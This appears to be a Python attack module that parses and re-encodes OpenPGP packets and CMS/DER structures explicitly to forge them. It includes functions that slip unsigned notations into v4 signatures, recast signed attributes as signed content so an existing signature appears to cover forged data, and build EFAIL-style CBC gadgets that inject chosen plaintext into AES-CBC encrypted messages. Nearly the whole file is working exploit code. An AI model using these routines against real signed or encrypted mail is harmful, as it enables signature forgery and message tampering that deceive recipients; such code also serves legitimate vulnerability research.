"""OpenPGP packets (RFC 4880) and CMS structures (RFC 5652) taken apart and put together, in order to forge them."""

from collections.abc import Sequence

_NOTATION = b"\x14\x80\0\0\0"  # subpacket 20, human-readable
_AES_128_CBC = bytes.fromhex("0609608648016503040102")  # followed by the IV and the encrypted content
_BLOCK = 16  # bytes


def packets(data: bytes) -> list[tuple[int, bytes]]:
    """Split a binary OpenPGP message into tags and bodies (RFC 4880 section 4.2)."""
    found, at = [], 0
    while at < len(data):
        head = data[at]
        at += 1
        if head & 0x40:
            body, at = _new_format(data, at)
            found.append((head & 0x3F, body))
        else:
            size = 1 << (head & 3)
            length = int.from_bytes(data[at : at + size], "big") if size < 8 else len(data) - at  # noqa: PLR2004 - none
            at += size if size < 8 else 0  # noqa: PLR2004 - indeterminate
            found.append((head >> 2 & 0xF, data[at : at + length]))
            at += length
    return found


def packet(tag: int, body: bytes) -> bytes:
    """Write one packet with a length of four octets."""
    return bytes([0xC0 | tag, 0xFF]) + len(body).to_bytes(4, "big") + body


def insert_unhashed(signature: bytes, name: bytes, value: bytes) -> bytes:
    """Add a notation where a version 4 signature does not cover it (RFC 4880 section 5.2.3.16)."""
    ((_, body),) = packets(signature)
    notation = _NOTATION + len(name).to_bytes(2, "big") + len(value).to_bytes(2, "big") + name + value
    at = 6 + int.from_bytes(body[4:6], "big")
    old = int.from_bytes(body[at : at + 2], "big")
    added = b"\xff" + len(notation).to_bytes(4, "big") + notation
    return packet(2, body[:at] + (old + len(added)).to_bytes(2, "big") + added + body[at + 2 :])


def der(tag: int, content: bytes) -> bytes:
    """Write one DER element."""
    size = len(content)
    octets = size.to_bytes((size.bit_length() + 7) // 8 or 1, "big")
    return bytes([tag]) + (bytes([size]) if size < 0x80 else bytes([0x80 | len(octets)]) + octets) + content  # noqa: PLR2004 - X.690


def elements(data: bytes) -> list[tuple[int, bytes]]:
    """Split DER into tags and contents."""
    found, at = [], 0
    while at < len(data):
        tag, size, at = data[at], data[at + 1], at + 2
        if size & 0x80:
            octets = size & 0x7F
            size, at = int.from_bytes(data[at : at + octets], "big"), at + octets
        found.append((tag, data[at : at + size]))
        at += size
    return found


def attributes_as_content(message: bytes) -> bytes:
    """Turn signed attributes into signed content: the signature fits both (opaque SignedData with one signer)."""
    ((_, info),) = elements(message)
    kind, (_, wrapped) = elements(info)
    ((_, inside),) = elements(wrapped)
    version, digests, content, certificates, signers = elements(inside)
    ((_, signer),) = elements(signers[1])
    parts = elements(signer)
    attributes = next(body for tag, body in parts if tag == 0xA0)  # noqa: PLR2004 - [0]
    bare = _join([part for part in parts if part[0] != 0xA0])  # noqa: PLR2004 - [0]
    name = elements(content[1])[0]
    forged = (content[0], _join([name, (0xA0, der(0x04, der(0x31, attributes)))]))
    signers = (signers[0], der(0x30, bare))
    return der(0x30, _join([kind, (0xA0, der(0x30, _join([version, digests, forged, certificates, signers])))]))


def cbc_gadgets(message: bytes, known: bytes, wanted: Sequence[bytes]) -> bytes:
    """Let the plaintext of EnvelopedData begin with wanted blocks; every second block becomes noise (EFAIL section 4).

    :param message: encrypted with AES-128-CBC.
    :param known: the first 16 bytes of its plaintext.
    """
    at = message.index(_AES_128_CBC) + len(_AES_128_CBC) + 2
    iv, rest = message[at : at + _BLOCK], message[at + _BLOCK :]
    head = next(size for size in (2, 3, 4) if (len(rest) - size) % _BLOCK == 0)  # the content's own tag and length
    first = rest[head : head + _BLOCK]
    chain = [bytes(a ^ b ^ c for a, b, c in zip(iv, known, block, strict=True)) for block in wanted]
    forged = b"".join(x + first for x in chain)[_BLOCK:]
    return message[:at] + chain[0] + rest[:head] + forged + rest[head + len(forged) :]


def _join(parts: Sequence[tuple[int, bytes]]) -> bytes:
    return b"".join(der(tag, body) for tag, body in parts)


def _new_format(data: bytes, at: int) -> tuple[bytes, int]:
    body = b""
    while True:
        first = data[at]
        if first < 192:  # noqa: PLR2004 - RFC 4880 section 4.2.2
            size, at = first, at + 1
        elif first < 224:  # noqa: PLR2004
            size, at = ((first - 192) << 8) + data[at + 1] + 192, at + 2
        elif first == 255:  # noqa: PLR2004
            size, at = int.from_bytes(data[at + 1 : at + 5], "big"), at + 5
        else:
            size, at = 1 << (first & 0x1F), at + 1
        body, at = body + data[at : at + size], at + size
        if not 224 <= first < 255:  # noqa: PLR2004 - a partial length is followed by another
            return body, at
